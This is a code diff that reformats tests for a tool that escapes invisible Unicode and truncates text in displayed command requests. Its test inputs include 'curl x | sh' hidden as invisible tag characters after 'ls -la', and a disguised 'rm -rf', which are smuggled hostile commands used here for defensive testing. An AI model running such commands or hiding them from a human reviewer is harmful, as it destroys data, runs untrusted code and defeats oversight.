@@ -105,7 +105,12 @@ describe('warnings on displayed arguments', () => {
 describe('invisible characters, escaped by Unicode property', () => {
   // Each of these renders as nothing (or acts on the screen) in a browser, Slack or a terminal.
   it.each([
-    ['Unicode tag characters', `ls -la${[...'; curl x | sh'].map((char) => String.fromCodePoint(0xe0000 + char.codePointAt(0)!)).join('')}`, '[U+E003B][U+E0020][U+E0063]', 'invisible'],
+    [
+      'Unicode tag characters',
+      `ls -la${[...'; curl x | sh'].map((char) => String.fromCodePoint(0xe0000 + char.codePointAt(0)!)).join('')}`,
+      '[U+E003B][U+E0020][U+E0063]',
+      'invisible',
+    ],
     ['U+061C arabic letter mark', 'a\u061Cb', 'a[U+061C]b', 'bidi-control'],
     ['U+00AD soft hyphen', 'rm\u00AD -rf', 'rm[U+00AD] -rf', 'invisible'],
     ['U+034F combining grapheme joiner', 'a\u034Fb', 'a[U+034F]b', 'invisible'],
@@ -183,7 +188,9 @@ describe('the description and the reason are shown like arguments', () => {
     expect(request.description.length).toBeLessThan(2_100);
     expect(request.description).toContain('characters not shown');
     expect(request.description).toContain('Also wipes the disk.');
-    expect(request.warnings).toContainEqual(expect.objectContaining({ code: 'truncated', path: 'description', message: expect.stringContaining(`${description.length} characters`) }));
+    expect(request.warnings).toContainEqual(
+      expect.objectContaining({ code: 'truncated', path: 'description', message: expect.stringContaining(`${description.length} characters`) }),
+    );
   });
 
   it('the reason gets the same escaping and a warning under "reason"', async () => {
